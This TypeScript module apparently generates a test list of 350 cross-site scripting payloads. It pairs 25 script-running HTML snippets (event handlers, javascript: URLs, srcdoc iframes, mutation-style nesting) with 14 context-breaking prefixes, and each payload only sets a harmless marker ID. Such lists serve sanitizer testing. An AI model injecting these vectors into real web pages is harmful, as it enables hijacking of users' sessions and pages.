/** Texts that would run a script if a page took them for markup, an attribute, an address or a style. */

const SCRIPT = "window.scriptRan='ID'";

const ELEMENTS = [
  '<script>JS</script>',
  '<img src=x onerror="JS">',
  '<svg onload="JS">',
  '<svg><script>JS</script></svg>',
  '<iframe srcdoc="<script>parent.scriptRan=1</script>">',
  '<iframe src="javascript:JS">',
  '<body onload="JS">',
  '<details open ontoggle="JS">',
  '<video><source onerror="JS"></video>',
  '<audio src=x onerror="JS">',
  '<input autofocus onfocus="JS">',
  '<select autofocus onfocus="JS">',
  '<textarea autofocus onfocus="JS">',
  '<marquee onstart="JS">',
  '<object data="javascript:JS">',
  '<embed src="javascript:JS">',
  '<a href="javascript:JS">click</a>',
  '<form action="javascript:JS"><button>go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror="JS">',
  '<style>@import "javascript:JS";</style>',
  '<link rel=stylesheet href="javascript:JS">',
  '<meta http-equiv=refresh content="0;url=javascript:JS">',
  '<base href="javascript:JS//">',
  '<template><script>JS</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=JS>">',
] as const;

/** Ways out of what a text may stand in. */
const BREAKS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '-->',
  ']]>',
  '`',
  '\\u003c',
  '&lt;',
  '${',
] as const;

/** 350 payloads; each names itself, so that the one that ran can be told. */
export const PAYLOADS: readonly string[] = BREAKS.flatMap((before, row) =>
  ELEMENTS.map((element, column) => before + element.replaceAll('JS', SCRIPT.replace('ID', `${row}.${column}`))),
);
